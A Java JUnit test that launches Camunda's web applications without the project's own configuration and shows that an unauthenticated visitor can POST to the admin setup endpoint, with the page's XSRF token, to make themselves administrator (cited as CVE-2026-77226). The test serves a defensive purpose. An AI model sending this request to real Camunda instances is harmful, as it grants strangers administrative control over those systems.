package io.athenabudget.cockpit;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;

import io.restassured.http.ContentType;
import io.restassured.response.Response;
import java.util.Map;
import org.camunda.bpm.engine.IdentityService;
import org.camunda.bpm.engine.authorization.Groups;
import org.camunda.bpm.spring.boot.starter.CamundaBpmAutoConfiguration;
import org.camunda.bpm.spring.boot.starter.webapp.CamundaBpmWebappAutoConfiguration;
import org.junit.jupiter.api.Test;
import org.springframework.boot.autoconfigure.ImportAutoConfiguration;
import org.springframework.boot.autoconfigure.http.HttpMessageConvertersAutoConfiguration;
import org.springframework.boot.autoconfigure.jackson.JacksonAutoConfiguration;
import org.springframework.boot.autoconfigure.jdbc.DataSourceAutoConfiguration;
import org.springframework.boot.autoconfigure.jdbc.DataSourceTransactionManagerAutoConfiguration;
import org.springframework.boot.autoconfigure.jdbc.JdbcTemplateAutoConfiguration;
import org.springframework.boot.autoconfigure.web.servlet.DispatcherServletAutoConfiguration;
import org.springframework.boot.autoconfigure.web.servlet.ServletWebServerFactoryAutoConfiguration;
import org.springframework.boot.autoconfigure.web.servlet.WebMvcAutoConfiguration;
import org.springframework.boot.builder.SpringApplicationBuilder;
import org.springframework.boot.web.servlet.context.ServletWebServerApplicationContext;

/**
 * Camunda's web applications as they come, with nothing of ours in front of them. If a later version closes the hole, the
 * door can go.
 */
class BareEngineTest {
    private static final String ENGINE = "bare";
    private static final String WELCOME = "/camunda/app/welcome/" + ENGINE + "/";

    /** No configuration that a scan would find: the application of the other tests must not contain it. */
    @ImportAutoConfiguration({
        ServletWebServerFactoryAutoConfiguration.class,
        DispatcherServletAutoConfiguration.class,
        WebMvcAutoConfiguration.class,
        HttpMessageConvertersAutoConfiguration.class,
        JacksonAutoConfiguration.class,
        DataSourceAutoConfiguration.class,
        DataSourceTransactionManagerAutoConfiguration.class,
        JdbcTemplateAutoConfiguration.class,
        CamundaBpmAutoConfiguration.class,
        CamundaBpmWebappAutoConfiguration.class
    })
    static final class Bare {}

    /** CVE-2026-77226. */
    @Test
    void whoever_comes_first_makes_themselves_an_administrator() {
        // Left running: Camunda's web applications share what they would take down, with those of the other tests.
        ServletWebServerApplicationContext bare =
                (ServletWebServerApplicationContext) new SpringApplicationBuilder(Bare.class)
                        .properties(Map.of(
                                "spring.config.name", "none-of-ours",
                                "server.port", "0",
                                "spring.datasource.url", "jdbc:h2:mem:bare",
                                "camunda.bpm.process-engine-name", ENGINE,
                                "camunda.bpm.auto-deployment-enabled", "false",
                                "camunda.bpm.job-execution.enabled", "false"))
                        .run();
        int port = bare.getWebServer().getPort();
        Response page = given().port(port).get(WELCOME);

        Response setUp = given().port(port)
                .contentType(ContentType.JSON)
                .cookies(page.cookies())
                .header("X-XSRF-TOKEN", page.cookie("XSRF-TOKEN"))
                .body(Map.of(
                        "profile", Map.of("id", "mallory", "firstName", "M", "lastName", "M", "email", "m@example.com"),
                        "credentials", Map.of("password", "open-sesame-1")))
                .post("/camunda/api/admin/setup/" + ENGINE + "/user/create");

        assertThat(setUp.statusCode()).isBetween(200, 299);
        IdentityService people = bare.getBean(IdentityService.class);
        assertThat(people.createUserQuery()
                        .memberOfGroup(Groups.CAMUNDA_ADMIN)
                        .singleResult()
                        .getId())
                .isEqualTo("mallory");
    }
}
